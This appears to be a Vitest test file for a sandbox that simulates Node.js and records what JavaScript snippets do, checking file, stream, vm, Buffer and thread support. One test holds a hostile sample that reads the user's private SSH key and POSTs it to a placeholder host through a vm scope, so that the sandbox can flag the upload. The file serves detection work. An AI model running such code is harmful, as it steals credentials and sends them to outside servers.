import { describe, expect, it } from 'vitest';
import { act } from '../testing/fake-machine.ts';

const HOST = 'https://c.example.invalid/u';

describe('the fake Node', () => {
  it.each([
    [
      'open files',
      "const fs=require('fs');const f=fs.openSync('a','w');fs.writeSync(f,'hi');fs.closeSync(f);console.log(fs.readFileSync('a','utf8'))",
      'hi',
    ],
    [
      'pieces of a file',
      "const fs=require('fs');fs.writeFileSync('a','abcd');const f=fs.openSync('a');const b=Buffer.alloc(2);fs.readSync(f,b,0,2,null);console.log(b.toString())",
      'ab',
    ],
    ['standard input at once', "console.log(require('fs').readFileSync(0,'utf8').length)", '0'],
    [
      'standard input in pieces',
      '(async()=>{let n=0;for await(const c of process.stdin)n+=c.length;console.log(n)})()',
      '0',
    ],
    [
      'a folder copied whole',
      "const fs=require('fs');fs.mkdirSync('d/e',{recursive:true});fs.writeFileSync('d/e/f','x');fs.cpSync('d','g',{recursive:true});console.log(fs.readFileSync('g/e/f','utf8'))",
      'x',
    ],
    [
      'lines of a file',
      "const fs=require('fs');fs.writeFileSync('a','1\\n2\\n');(async()=>{for await(const l of require('readline').createInterface({input:fs.createReadStream('a')}))console.log(l)})()",
      '1\n2',
    ],
    [
      'a stream that changes what passes',
      "const{Transform,Readable}=require('stream');Readable.from(['a']).pipe(new Transform({transform(c,e,done){done(null,String(c).toUpperCase())}})).on('data',c=>console.log(c))",
      'A',
    ],
    [
      'words of the command line',
      "const{values,positionals}=require('util').parseArgs({options:{out:{type:'string',short:'o'}},allowPositionals:true});console.log(values.out,positionals.join())",
      'b a',
    ],
    [
      'code with a scope of its own',
      "const vm=require('vm');console.log(vm.runInNewContext('t + 1',{t:1}),new vm.Script('u').runInContext(vm.createContext({u:5})))",
      '2 5',
    ],
    [
      'numbers in bytes',
      'const b=Buffer.alloc(4);b.writeUInt32LE(258,0);console.log(b.readUInt16LE(0),b.readUInt32BE(0))',
      '258 33619968',
    ],
    [
      'languages',
      "console.log(Intl.DateTimeFormat().resolvedOptions().timeZone,new Intl.NumberFormat('en').format(3))",
      'UTC 3',
    ],
    [
      'what it has never heard of',
      "const c=require('crypto');c.createPrivateKey('k');require('https').globalAgent.keepAlive=true;console.log('on')",
      'on',
    ],
    [
      'names it has never heard of',
      "import { createPrivateKey } from 'node:crypto';\ncreatePrivateKey('k');console.log('on')",
      'on',
    ],
    [
      'threads',
      "const{Worker,isMainThread}=require('worker_threads');console.log(isMainThread,typeof Worker)",
      'true function',
    ],
  ])('knows %s', async (_, code, printed) => {
    const { stdout, gaps } = await act('javascript', code, ['a', '--out', 'b']);

    expect(stdout.trim()).toBe(printed);
    expect(gaps).toEqual([]);
  });

  it('follows a secret through a scope, a file that was opened, and a thread', async () => {
    const { acts } = await act(
      'javascript',
      `const fs = require('fs'), os = require('os');
      const f = fs.openSync('/tmp/o', 'w'); fs.writeSync(f, fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'));
      require('vm').runInNewContext("send('${HOST}', { method: 'POST', body: text })", { send: fetch, text: fs.readFileSync('/tmp/o', 'utf8') });`,
    );

    expect(acts).toContain(`net | POST ${HOST} | canary:ssh-key upload`);
  });

  it('says nothing of a key that stays inside Node', async () => {
    const { acts } = await act('javascript', "require('crypto').createSecretKey(process.env.OPENAI_API_KEY)");

    expect(acts.filter((one) => one.startsWith('exec'))).toEqual([]);
  });
});
